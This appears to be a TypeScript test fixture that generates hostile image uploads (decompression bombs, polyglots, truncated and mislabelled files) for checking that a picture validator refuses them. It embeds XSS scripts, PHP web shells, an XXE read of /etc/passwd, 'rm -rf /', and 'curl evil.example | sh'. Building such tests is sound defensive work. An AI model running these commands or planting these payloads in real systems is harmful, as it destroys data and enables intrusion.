/** Files that are sent as pictures and must be refused: each quickly, and cheaply. */
import { randomBytes } from 'node:crypto'
import { once } from 'node:events'
import { createDeflate, deflateSync, gzipSync } from 'node:zlib'
import sharp from 'sharp'
import {
  bigEndian,
  box,
  jpegSegment,
  littleEndian,
  pngChunk,
  pngData,
  pngHeader,
  pngSignature,
  webpChunk,
  webpChunksOf,
  webpOf,
  withJpegSegments,
  withPngChunks,
  zipOf,
} from './picture-parts.ts'

export interface HostilePicture {
  readonly name: string
  readonly bytes: Buffer
}

type Hostile = [name: string, bytes: Buffer | string]
type Whole = Readonly<Record<(typeof formats)[number], Buffer>>

const formats = ['jpeg', 'png', 'webp', 'avif'] as const
const manyFrames = 10_000
const script = '<script>alert(document.domain)</script>'
const page = `<!DOCTYPE html><html><body>${script}</body></html>`

/** Some 270 of them: bombs, truncated files, polyglots, other types, animations without end. */
export async function hostilePictures(): Promise<HostilePicture[]> {
  const whole = await wholePictures()
  const all = [
    ...otherTypes(),
    ...polyglots(whole),
    ...(await bombs(whole)),
    ...animations(whole),
    ...broken(whole),
    ...truncated(whole),
  ]
  return all.map(([name, bytes]) => ({ name, bytes: latin1(bytes) }))
}

/** A picture of each accepted format, of which nothing is wrong. */
export async function wholePictures(): Promise<Whole> {
  const noise = sharp({
    create: {
      width: 160,
      height: 120,
      channels: 3,
      background: 'teal',
      noise: { type: 'gaussian', mean: 128, sigma: 40 },
    },
  })
  const pixels = await noise.raw().toBuffer()
  const encode = (format: (typeof formats)[number]) =>
    sharp(pixels, { raw: { width: 160, height: 120, channels: 3 } })
      .toFormat(format)
      .toBuffer()
  const [jpeg, png, webp, avif] = await Promise.all([encode('jpeg'), encode('png'), encode('webp'), encode('avif')])
  return { jpeg, png, webp, avif }
}

function otherTypes(): Hostile[] {
  const svg = `<svg xmlns="http://www.w3.org/2000/svg" width="9" height="9">${script}<rect width="9" height="9"/></svg>`
  const gif = 'GIF89a\x01\0\x01\0\x80\0\0\0\0\0\xff\xff\xff,\0\0\0\0\x01\0\x01\0\0\x02\x02D\x01\0;'
  return [
    ...([0, 1, 2, 3, 11, 12, 16, 64, 4_096, 100_000].map((size) => [`${size} zeros`, Buffer.alloc(size)]) as Hostile[]),
    ...([1, 16, 1_000, 100_000].map((size) => [`${size} random bytes`, randomBytes(size)]) as Hostile[]),
    ['SVG', svg],
    ['SVG with a declaration', `<?xml version="1.0"?>${svg}`],
    ['SVG that reads a file', `<!DOCTYPE svg [<!ENTITY x SYSTEM "file:///etc/passwd">]><svg><text>&x;</text></svg>`],
    ['SVG, compressed', gzipSync(svg)],
    ['GIF', gif],
    ['GIF that is a script', `GIF89a/*${'\0'.repeat(20)}*/=1;alert(1)//`],
    ['TIFF', Buffer.concat([latin1('II*\0\x08\0\0\0'), Buffer.alloc(200)])],
    ['TIFF, big-endian', Buffer.concat([latin1('MM\0*\0\0\0\x08'), Buffer.alloc(200)])],
    ['BMP', Buffer.concat([latin1('BM'), littleEndian(70, 4), Buffer.alloc(64, 1)])],
    ['ICO', Buffer.concat([latin1('\0\0\x01\0\x01\0'), Buffer.alloc(64, 1)])],
    ['HEIC', heif('heic')],
    ['HEIC that names AVIF first', heif('heic', 'avif', 'mif1')],
    ['HEIF sequence', heif('msf1', 'hevc')],
    ['AVIF sequence', heif('avis', 'avif')],
    ['AVIF of nothing but its name', heif('avif', 'mif1')],
    ['MP4', Buffer.concat([box('ftyp', latin1('isom\0\0\0\0mp42')), box('moov'), box('mdat', Buffer.alloc(99))])],
    ['JPEG 2000', Buffer.concat([latin1('\0\0\0\x0cjP  \r\n\x87\n'), Buffer.alloc(64)])],
    ['JPEG XL', Buffer.concat([latin1('\xff\x0a'), Buffer.alloc(64)])],
    ['WAV', webpChunk('RIFF', Buffer.concat([latin1('WAVE'), webpChunk('fmt ', Buffer.alloc(16))]))],
    ['PSD', Buffer.concat([latin1('8BPS\0\x01'), Buffer.alloc(64)])],
    ['PostScript', '%!PS-Adobe-3.0\n(/etc/passwd) run'],
    ['PDF', '%PDF-1.7\n1 0 obj<</Type/Catalog>>endobj\ntrailer<</Root 1 0 R>>\n%%EOF'],
    ['HTML', page],
    ['a web shell', '<?php system($_GET["c"]); ?>'],
    ['a shell script', '#!/bin/sh\nrm -rf /\n'],
    ['a Windows program', Buffer.concat([latin1('MZ'), Buffer.alloc(512)])],
    ['a Linux program', Buffer.concat([latin1('\x7fELF\x02\x01\x01'), Buffer.alloc(512)])],
    ['ZIP', zipOf('a.txt', 'text')],
    ['JSON', '{"a":1}'],
    ['text', 'a picture'],
  ]
}

function polyglots({ jpeg, png, webp, avif }: Whole): Hostile[] {
  const appended: [string, Buffer][] = [
    ['a page', latin1(page)],
    ['a script', latin1(script)],
    ['a web shell', latin1('<?php system($_GET["c"]); ?>')],
    ['an SVG', latin1('<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>')],
    ['a line of JavaScript', latin1('\n*/alert(1)//')],
    ['a shell script', latin1('#!/bin/sh\ncurl evil.example | sh\n')],
    ['a ZIP', zipOf('Evil.class', 'code')],
    ['a ZIP behind zeros', Buffer.concat([Buffer.alloc(99), zipOf('Evil.class', 'code')])],
    ['a PDF', latin1('%PDF-1.4\n1 0 obj<<>>endobj\n%%EOF')],
    ['a RAR', latin1('Rar!\x1a\x07\x01\0\x33\x92\xb5\xe5')],
    ['a 7z', latin1('7z\xbc\xaf\x27\x1c\0\x04')],
    ['a gzip', gzipSync('evil')],
    ['a GIF', latin1('GIF89a\x01\0\x01\0\0\0\0;')],
    ['a PNG', png],
    ['a WebP', webp],
    ['a Windows program', Buffer.concat([latin1('MZ'), Buffer.alloc(64)])],
    ['a Linux program', latin1('\x7fELF\x02\x01\x01\0\0\0')],
  ]
  const behind = Object.entries({ jpeg, png, webp, avif }).flatMap(([format, picture]) =>
    appended.map(([name, bytes]): Hostile => [`${format} with ${name} behind it`, Buffer.concat([picture, bytes])]),
  )
  const comment = (text: string) => withJpegSegments(jpeg, jpegSegment(0xfe, latin1(text)))
  const before = ['\n', ' ', '\xef\xbb\xbf', '\0', '<!--', 'GIF89a', '%PDF-1.4\n', page]
  return [
    ...behind,
    ...before.map((text): Hostile => [`JPEG behind ${JSON.stringify(text)}`, Buffer.concat([latin1(text), jpeg])]),
    ['JPEG with a script in a comment', comment(script)],
    ['JPEG with a page in a comment', comment(`--><html><!--`)],
    ['JPEG with a web shell in a comment', comment('<?php eval($_POST[0]); ?>')],
    ['JPEG with a PDF in a comment', comment('%PDF-1.4\n1 0 obj<<>>endobj')],
    ['JPEG with a PHAR in a comment', comment('__HALT_COMPILER(); ?>')],
    ['JPEG that is a script', withJpegSegments(jpeg, jpegSegment(0xe0, Buffer.alloc(0x2f2a - 2, '*/=alert(1)/*')))],
    ['PNG with a script in its text', withPngChunks(png, pngChunk('tEXt', latin1(`Comment\0${script}`)))],
    ['PNG with a web shell in its text', withPngChunks(png, pngChunk('tEXt', latin1('a\0<?php system("id"); ?>')))],
    ['PNG with a ZIP in a chunk', withPngChunks(png, pngChunk('evIl', zipOf('a', 'b')))],
    ['WebP with a page in a chunk', webpOf(...webpParts(webp), webpChunk('EVIL', latin1(page)))],
    ['AVIF with a page in a free box', Buffer.concat([avif, box('free', latin1(page))])],
  ]
}

async function bombs({ jpeg, png, webp, avif }: Whole): Promise<Hostile[]> {
  const zeros = deflateSync(Buffer.alloc(100_000_000))
  const text = (name: string, before: string) =>
    withPngChunks(png, pngChunk(name, Buffer.concat([latin1(before), zeros])))
  const frame = jpeg.indexOf(latin1('\xff\xc0'))
  const vp8 = webpChunksOf(webp).find(({ name }) => name === 'VP8 ')?.data ?? webp
  const extent = avif.indexOf('ispe')
  return [
    ['PNG of 30,000 × 30,000', await zeroPng(30_000, 30_000)],
    [
      'PNG of 2^31 - 1 pixels a side',
      Buffer.concat([pngSignature, pngHeader(2 ** 31 - 1, 2 ** 31 - 1, 16, 6), png.subarray(33)]),
    ],
    ['PNG of 50,000 × 50,000, all of it one block', smallPng(50_000, 50_000)],
    ['PNG with text that inflates to 100 MB', text('zTXt', 'Comment\0\0')],
    ['PNG with international text that inflates', text('iTXt', 'Comment\0\x01\0\0\0')],
    ['PNG with a profile that inflates', text('iCCP', 'Profile\0\0')],
    ['JPEG of 65,535 × 65,535', patched(jpeg, frame + 5, Buffer.alloc(4, 0xff))],
    ['JPEG of 20,000 × 20,000', patched(jpeg, frame + 5, Buffer.concat([bigEndian(20_000, 2), bigEndian(20_000, 2)]))],
    ['JPEG of 1,000 passes', jpegOfPasses(jpeg, 1_000)],
    ['WebP of 16,383 × 16,383', webpOf(webpChunk('VP8 ', patched(vp8, 6, Buffer.from([0xff, 0x3f, 0xff, 0x3f]))))],
    ['WebP of 16,384 × 16,384, lossless', webpOf(webpChunk('VP8L', latin1(`/${'\xff'.repeat(99)}`)))],
    [
      'WebP on a canvas of 2^24 pixels a side',
      webpOf(webpChunk('VP8X', latin1(`\0\0\0\0${'\xff'.repeat(6)}`)), ...webpParts(webp)),
    ],
    ['AVIF of 2^32 - 1 pixels a side', patched(avif, extent + 8, Buffer.alloc(8, 0xff))],
    ['AVIF of 40,000 × 40,000', patched(avif, extent + 8, Buffer.concat([bigEndian(40_000, 4), bigEndian(40_000, 4)]))],
  ]
}

function animations({ png, webp }: Whole): Hostile[] {
  const frame = webpChunk('ANMF', Buffer.concat([Buffer.alloc(16, 0), ...webpParts(webp)]))
  const empty = webpChunk('ANMF', Buffer.alloc(16, 0))
  const canvas = webpChunk(
    'VP8X',
    Buffer.concat([Buffer.from([2, 0, 0, 0]), littleEndian(159, 3), littleEndian(119, 3)]),
  )
  const animated = (...frames: Buffer[]) => webpOf(canvas, webpChunk('ANIM', Buffer.alloc(6)), ...frames)
  const control = pngChunk('acTL', Buffer.concat([bigEndian(manyFrames, 4), bigEndian(0, 4)]))
  const pngFrames = Array.from({ length: manyFrames }, () => pngChunk('fdAT', Buffer.alloc(4)))
  return [
    ['WebP of 10,000 frames', animated(frame, ...Array<Buffer>(manyFrames - 1).fill(empty))],
    ['WebP of 10,000 empty frames', animated(...Array<Buffer>(manyFrames).fill(empty))],
    ['PNG of 10,000 frames', withPngChunks(png, control, ...pngFrames)],
  ]
}

/** Whole by their structure, and broken inside: these reach the decoders. */
function broken({ jpeg, png, webp, avif }: Whole): Hostile[] {
  const pixels = pngData(png, 'IDAT')
  const [{ data: vp8 } = { data: webp }] = webpChunksOf(webp)
  const media = avif.indexOf('mdat')
  return [10, 30, 50, 70, 90].flatMap((percent): Hostile[] => {
    const of = (bytes: Buffer) => bytes.subarray(0, Math.floor((bytes.length * percent) / 100))
    const named = (format: string) => `${format} with ${percent} % of its data`
    return [
      [
        named('JPEG'),
        Buffer.concat([jpeg.subarray(0, scanOf(jpeg)), of(jpeg.subarray(scanOf(jpeg))), latin1('\xff\xd9')]),
      ],
      [named('PNG'), pngOf(png.subarray(8, 33), of(pixels))],
      [named('WebP'), webpOf(webpChunk('VP8 ', of(vp8)))],
      [named('AVIF'), Buffer.concat([avif.subarray(0, media - 4), box('mdat', of(avif.subarray(media + 4)))])],
    ]
  })
}

/** Each format at every second hundredth or so, and together at every one. */
function truncated(whole: Whole): Hostile[] {
  return Array.from({ length: 99 }, (_, i) => i + 1).flatMap((percent) => {
    const cut = [formats[percent % 4], formats[(percent + 1) % 4]] as const
    return cut.map((format = 'jpeg'): Hostile => {
      const bytes = whole[format]
      return [`${format} cut at ${percent} %`, bytes.subarray(0, Math.floor((bytes.length * percent) / 100))]
    })
  })
}

/** Of one bit a pixel, which is 112 MB of zeros for 30,000 pixels a side. */
async function zeroPng(width: number, height: number): Promise<Buffer> {
  const deflate = createDeflate({ level: 1 })
  const compressed = deflate.toArray()
  const row = Buffer.alloc((1 + Math.ceil(width / 8)) * 100)
  for (let rows = 0; rows < height; rows += 100) if (!deflate.write(row)) await once(deflate, 'drain')
  deflate.end()
  return pngOf(pngHeader(width, height, 1, 0), Buffer.concat(await compressed))
}

function smallPng(width: number, height: number): Buffer {
  return pngOf(pngHeader(width, height, 8, 6), deflateSync(Buffer.alloc(65_536)))
}

function pngOf(header: Buffer, compressed: Buffer): Buffer {
  return Buffer.concat([pngSignature, header, pngChunk('IDAT', compressed), pngChunk('IEND')])
}

function jpegOfPasses(jpeg: Buffer, count: number): Buffer {
  const pass = jpeg.subarray(jpeg.indexOf(latin1('\xff\xda')), -2)
  return Buffer.concat([jpeg.subarray(0, -2), ...Array<Buffer>(count).fill(pass), latin1('\xff\xd9')])
}

function scanOf(jpeg: Buffer): number {
  const scan = jpeg.indexOf(latin1('\xff\xda'))
  return scan + 2 + jpeg.readUInt16BE(scan + 2)
}

function webpParts(webp: Buffer): Buffer[] {
  return webpChunksOf(webp).map(({ name, data }) => webpChunk(name, data))
}

function heif(...brands: readonly [string, ...string[]]): Buffer {
  const names = box('ftyp', latin1(brands[0]), Buffer.alloc(4), ...brands.map(latin1))
  return Buffer.concat([names, box('meta', Buffer.alloc(64)), box('mdat', Buffer.alloc(256))])
}

function patched(bytes: Buffer, at: number, patch: Buffer): Buffer {
  return Buffer.concat([bytes.subarray(0, at), patch, bytes.subarray(at + patch.length)])
}

function latin1(bytes: Buffer | string): Buffer {
  return Buffer.from(bytes as string, 'latin1')
}
